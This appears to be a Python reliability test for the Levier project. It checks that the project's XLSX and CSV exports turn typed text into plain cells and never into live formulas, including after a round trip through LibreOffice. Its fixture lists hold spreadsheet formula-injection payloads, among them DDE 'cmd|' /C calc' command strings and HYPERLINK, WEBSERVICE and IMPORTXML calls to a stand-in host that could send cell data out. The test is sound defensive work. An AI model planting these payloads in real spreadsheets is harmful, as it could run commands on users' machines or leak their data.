"""R26: what people type comes back from a spreadsheet as they typed it, and no cell is ever a formula.

Payloads go out through Levier's own writers (workbook, CSV), through LibreOffice where it is installed, and are read back by
another program than the one that wrote.
"""

import csv
import io
import random
import shutil
import subprocess
import tempfile
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path
from typing import Any

import openpyxl

from tests.reliability.figure import Figure

N = 5_000
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "'=", "=-", "%3D", ";=")
BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://exemple.test/?"&A1;"ici")', "SUM(A1:A9)", 'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://exemple.test")', 'IMPORTXML("http://exemple.test";"//a")', "A1", "cmd", "2+5+cmd|' /C calc'!A0",
)  # fmt: skip
HONEST = (
    "-", "--", "a = b", "x=1", "00123", "013001", "21130001300013", "92100012300019", "1 250,50 €", "- 5 %", "O’Connor", "=",
    "1e5", "1/2", "03/04", "TRUE", "VRAI", "#N/A", "“guillemets”", "L'Estaque", "a;b", 'dit "oui"', "é è ç œ",
)  # fmt: skip


def payloads(n: int, seed: int) -> list[str]:
    """Half hostile, half honest; each text once in its own line."""
    dice = random.Random(seed)
    hostile = [f"{dice.choice(STARTS)}{dice.choice(BODIES)}" for _ in range(n // 2)]
    honest = [
        dice.choice(HONEST) if dice.random() < 0.5 else f"{dice.choice(HONEST)} {dice.randrange(10**6)}"
        for _ in range(n - len(hostile))
    ]
    return hostile + honest


def run(n: int, seed: int, _copy: object = None) -> dict[str, Any]:
    figure = Figure(n)
    texts = payloads(n, seed)
    bad = {"workbook": bad_in_workbook(workbook_of(texts), texts), "csv": bad_in_csv(csv_of(texts), texts)}
    for name, content, suffix in (("workbook", workbook_of(texts), "xlsx"), ("csv", csv_of(texts), "csv")):
        back = _through_a_spreadsheet(content, suffix)
        if back is None:
            figure.unmeasured.append(f"{name}: no LibreOffice Calc here, the way through a spreadsheet was not tried")
        else:
            bad[f"{name} through LibreOffice"] = bad_in_workbook(back, texts)
    figure.found = {
        "bad_cells": {name: len(found) for name, found in bad.items()},
        "first": {k: v[:5] for k, v in bad.items() if v},
    }
    figure.met = not any(bad.values())
    hostile = [text for text in texts if text.startswith("=")]
    figure.planted = {
        "a workbook written without care holds formulas": bool(bad_in_workbook(careless_workbook_of(hostile), hostile)),
        "a CSV written without care holds what a spreadsheet runs": bool(bad_in_csv(careless_csv_of(hostile), hostile)),
        "a text that loses its zeros is seen": bool(bad_in_csv(csv_of(["123"]), ["00123"])),
    }
    return figure.told()


def _said(text: str) -> str:
    """What a reader sees of a text: spaces and line ends are one space at most, as a cell shows them."""
    return " ".join(text.split())


def workbook_of(texts: Sequence[str]) -> bytes:
    from levier.web.workbook import Sheet, workbook

    return workbook([Sheet("Essai", ("Texte",), ([text] for text in texts))])


def csv_of(texts: Iterable[str]) -> bytes:
    from levier.web.spreadsheet import csv_response

    _settle()
    return csv_response("essai.csv", ("Texte",), ([text] for text in texts)).content


def _settle() -> None:
    import os

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "levier.settings")
    import django

    django.setup()


def careless_workbook_of(texts: Sequence[str]) -> bytes:
    return _saved(texts, lambda sheet, row, text: sheet.cell(row, 1, text))


def _saved(texts: Sequence[str], write: Callable[..., object]) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Texte"])
    for row, text in enumerate(texts, start=2):
        write(book.active, row, text)
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def careless_csv_of(texts: Iterable[str]) -> bytes:
    target = io.StringIO()
    csv.writer(target, delimiter=";").writerows([["Texte"], *([text] for text in texts)])
    return target.getvalue().encode("utf-8-sig")


def bad_in_workbook(content: bytes, texts: Sequence[str]) -> list[str]:
    """Cells that are formulas, and texts that came back otherwise than they went."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=len(texts) + 1)]
    return _compare([("" if cell.value is None else str(cell.value), cell.data_type == "f") for cell in cells], texts)


def bad_in_csv(content: bytes, texts: Sequence[str]) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))[1:]
    return _compare(
        [(row[0] if row else "", (row or [""])[0].startswith(("=", "+", "-", "@", "\t", "\r"))) for row in rows], texts
    )


def _compare(cells: Sequence[tuple[str, bool]], texts: Sequence[str]) -> list[str]:
    bad = [f"{len(texts) - len(cells)} lines lost"] if len(cells) != len(texts) else []
    for (value, runs), text in zip(cells, texts, strict=False):
        shown = _said(value).removeprefix("'")
        if runs or shown != _said(text).removeprefix("'"):
            bad.append(f"{text!r} became {value!r}{' (a formula)' if runs else ''}")
    return bad


def _through_a_spreadsheet(content: bytes, suffix: str) -> bytes | None:
    """The file opened by LibreOffice and saved again as XLSX; None where LibreOffice or its Calc is not installed."""
    office = shutil.which("soffice")
    if office is None:
        return None
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder) / f"sent.{suffix}"
        source.write_bytes(content)
        # Semicolons, UTF-8; the fourth and last words: columns as the program would guess, as a person who double-clicks gets them.
        read_as = ["--infilter=CSV:59,34,76"] if suffix == "csv" else []
        command = [office, f"-env:UserInstallation=file://{folder}/profile", "--headless", *read_as,
                   "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", f"{folder}/back", str(source)]  # fmt: skip
        subprocess.run(command, check=True, capture_output=True, timeout=300)
        back = Path(folder) / "back" / "sent.xlsx"
        return back.read_bytes() if back.exists() else None
